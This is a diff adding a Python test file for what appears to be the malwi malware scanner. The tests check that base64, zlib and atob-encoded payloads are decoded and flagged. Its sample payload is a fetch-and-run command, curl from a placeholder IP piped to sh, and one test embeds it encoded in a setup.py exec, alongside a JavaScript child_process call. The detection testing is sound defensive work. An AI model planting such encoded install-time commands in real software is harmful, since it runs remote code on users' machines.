@@ -1,0 +1,57 @@
+"""Encoded payloads decoded into child objects, as users see them (the decoders themselves have
+Rust unit and snapshot tests in the core)."""
+
+from __future__ import annotations
+
+import base64
+import json
+import zlib
+from pathlib import Path
+
+import jsonschema
+
+import malwi
+
+from .conftest import ROOT, run_malwi
+
+SCHEMA = json.loads((ROOT / "data" / "schemas" / "analysis_result_schema.json").read_text())
+PAYLOAD = "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
+
+
+def test_exec_of_base64_shows_the_decoded_payload_and_its_behaviour(tmp_path: Path) -> None:
+    encoded = base64.b64encode(PAYLOAD.encode()).decode()
+    (tmp_path / "setup.py").write_text(f"import base64\nexec(base64.b64decode('{encoded}'))\n")
+    result = run_malwi("scan", str(tmp_path), "--format", "json", "--threshold", "0.0")
+    document = json.loads(result.stdout)
+    jsonschema.validate(document, SCHEMA)
+    decoded = [o for f in document["files"] for o in f["objects"] if o["name"] == "<decoded:L2>"]
+    assert decoded, document["files"]
+    assert decoded[0]["decoded_from"] == "base64" and "PROCESS_MANAGEMENT" in decoded[0]["activities"]
+    assert decoded[0]["source"] == PAYLOAD and decoded[0]["lines"] == [2, 2]
+    text = run_malwi("scan", str(tmp_path), "--threshold", "0.0").stdout.decode()
+    assert "<decoded:L2> (module, lines 2-2)" in text and "decoded payload (base64)" in text
+
+
+def test_nested_layers_and_bytes_literals() -> None:
+    layer = PAYLOAD.encode()
+    for _ in range(20):
+        layer = base64.b64encode(zlib.compress(layer))
+    objects = malwi.compile_source(f"exec(zlib.decompress(base64.b64decode({layer!r})))\n", "python")
+    decoded = [o for o in objects if o.decoded_from]
+    assert [o.name for o in decoded] == ["<decoded:L1>"]
+    assert decoded[0].decoded_from == " > ".join(["base64", "zlib"] * 20)
+    assert "PROCESS_MANAGEMENT" in decoded[0].activities()
+    raw = zlib.compress(PAYLOAD.encode())
+    objects = malwi.compile_source(f"import zlib\nexec(zlib.decompress({raw!r}))\n", "python")
+    assert [o.decoded_from for o in objects if o.decoded_from] == ["zlib"]
+
+
+def test_javascript_atob_and_ordinary_strings() -> None:
+    code = "require('child_process').exec('id')"
+    source = f'eval(atob("{base64.b64encode(code.encode()).decode()}"));\nconst key = "c2VjcmV0X3Rva2VuXzEyMzQ1Njc4OTA=";\n'
+    objects = malwi.compile_source(source, "javascript")
+    decoded = [o for o in objects if o.decoded_from]
+    assert len(decoded) == 1 and decoded[0].name == "<decoded:L1>" and decoded[0].language == "javascript"
+    assert "PROCESS_MANAGEMENT" in decoded[0].activities()
+    # The base64 key decodes to a word, not code: no object for it.
+    assert all(o.name != "<decoded:L2>" for o in objects)
